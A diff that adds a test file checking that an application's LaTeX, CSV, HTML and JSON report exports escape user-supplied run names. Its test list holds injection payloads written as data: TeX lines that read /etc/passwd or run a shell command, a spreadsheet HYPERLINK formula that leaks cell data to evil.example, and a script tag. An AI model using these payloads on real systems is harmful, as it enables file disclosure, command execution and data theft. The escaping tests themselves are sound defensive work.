@@ -1,0 +1,146 @@
+/**
+ * User text in reports stays text: run names with line breaks, TeX control sequences, spreadsheet
+ * formulas and HTML go into every format without becoming code there.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Engine } from '../../../src/main/engine/engine';
+import type { TesseraClient } from '../../../src/shared';
+import { finishJob, openTestEngine } from '../../helpers/engine';
+import { tempDir } from '../../helpers/fixtures';
+import { addSemanticRun, importSemantic, noisyPrediction, randomScene, testRandom, type SemanticFixture } from '../metrics/helpers';
+
+const SIZE = { w: 24, h: 16 };
+const HOSTILE = [
+  'plain',
+  'tex\n\\input{/etc/passwd}',
+  'crlf\r\n\\immediate\\write18{id}%',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+cmd',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\tTAB=1',
+  '\rCR=1',
+  'a;=1+1',
+  '<script>alert(1)</script>&^^J~',
+];
+let t: ReturnType<typeof tempDir>;
+let engine: Engine;
+let client: TesseraClient;
+let fx: SemanticFixture;
+let runIds: number[] = [];
+
+beforeAll(async () => {
+  t = tempDir('tessera-escape-');
+  ({ engine, client } = openTestEngine(join(t.dir, 'ws')));
+  const random = testRandom(7);
+  const gts = Array.from({ length: 3 }, () => randomScene(random, SIZE.w, SIZE.h, 3, false));
+  fx = await importSemantic(client, engine, t.dir, gts, SIZE, 'data\n\\input{/etc/hosts}');
+  for (const name of HOSTILE) {
+    addSemanticRun(engine, fx.datasetId, name, new Map(fx.samples.map((s) => [s.sampleId, noisyPrediction(random, s.gt, 3, 0.2)])), SIZE);
+  }
+  runIds = HOSTILE.map((name) => engine.deps.repos.runs.byName(fx.datasetId, name)!.id);
+});
+
+afterAll(async () => {
+  await engine.close();
+  t.cleanup();
+});
+
+async function report(format: 'csv' | 'tex' | 'html' | 'json', ids: number[]): Promise<string> {
+  const done = await finishJob(client, () => client.call('reports.create', { datasetId: fx.datasetId, runIds: ids, format }));
+  expect(done.status, JSON.stringify(done.error)).toBe('succeeded');
+  return readFileSync(String(done.result?.['path']), 'utf8');
+}
+
+/** RFC 4180 reader: cells may be quoted, with "" for a quote, and hold separators and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"' && cell === '') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += c;
+  }
+  return rows;
+}
+
+describe('reports escape every user string', () => {
+  it('LaTeX: no line break and no control sequence of a name reaches TeX', async () => {
+    // Eight runs at most per report: two reports cover all names.
+    const tex = (await report('tex', runIds.slice(0, 8))) + (await report('tex', [runIds[0]!, ...runIds.slice(8)]));
+    for (const line of tex.split('\n')) {
+      // Every line is ours: a comment, a table row, or one of the fixed environment lines.
+      expect(line).not.toMatch(/^\\(input|immediate)/);
+      expect(line).not.toMatch(/\\(input|write18|immediate)\b/);
+    }
+    expect(tex).toContain('tex \\textbackslash{}input\\{/etc/passwd\\} &');
+    expect(tex).toContain('% run tex \\textbackslash{}input\\{/etc/passwd\\}: model');
+    expect(tex).toContain('dataset data \\textbackslash{}input\\{/etc/hosts\\} sha256');
+    expect(tex).toContain('crlf  \\textbackslash{}immediate\\textbackslash{}write18\\{id\\}\\% &');
+    expect(tex).toContain(
+      '\\textless{}script\\textgreater{}alert(1)\\textless{}/script\\textgreater{}\\&\\textasciicircum{}\\textasciicircum{}J\\textasciitilde{}',
+    );
+    // Run comment lines: exactly one per run of each report.
+    expect(tex.split('\n').filter((l) => l.startsWith('% run ')).length).toBe(8 + 4);
+  });
+
+  it('CSV: cells that a spreadsheet would run as formulas start with a quote', async () => {
+    const csv = (await report('csv', runIds.slice(0, 8))) + (await report('csv', [runIds[0]!, ...runIds.slice(8)]));
+    const rows = parseCsv(csv).filter((r) => r[0] !== 'dataset');
+    expect(rows.every((r) => r.length === 12)).toBe(true);
+    const runs = new Set(rows.map((r) => r[3]));
+    expect(runs).toEqual(
+      new Set([
+        'plain',
+        'tex\n\\input{/etc/passwd}',
+        'crlf\r\n\\immediate\\write18{id}%',
+        `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+        "'+1+cmd",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "'\tTAB=1",
+        "'\rCR=1",
+        'a;=1+1',
+        '<script>alert(1)</script>&^^J~',
+      ]),
+    );
+    for (const r of rows) for (const cell of r.slice(0, 11)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Numbers stay numbers, negative ones too.
+    expect(rows.some((r) => r[7] === 'difference' && /^-?\d/.test(r[11] ?? ''))).toBe(true);
+    // The formula and the separator-holding names are quoted on disk.
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(csv).toContain('"a;=1+1"');
+  });
+
+  it('HTML: names are text, and the page itself may load nothing', async () => {
+    const html = await report('html', runIds.slice(4, 11));
+    expect(html).not.toContain('<script>');
+    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&amp;');
+    expect(html).toContain(
+      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'">`,
+    );
+  });
+
+  it('JSON: names round-trip exactly', async () => {
+    const json = JSON.parse(await report('json', runIds.slice(0, 8))) as { runs: Array<{ name: string }> };
+    expect(json.runs.map((r) => r.name)).toEqual(HOSTILE.slice(0, 8));
+  });
+});
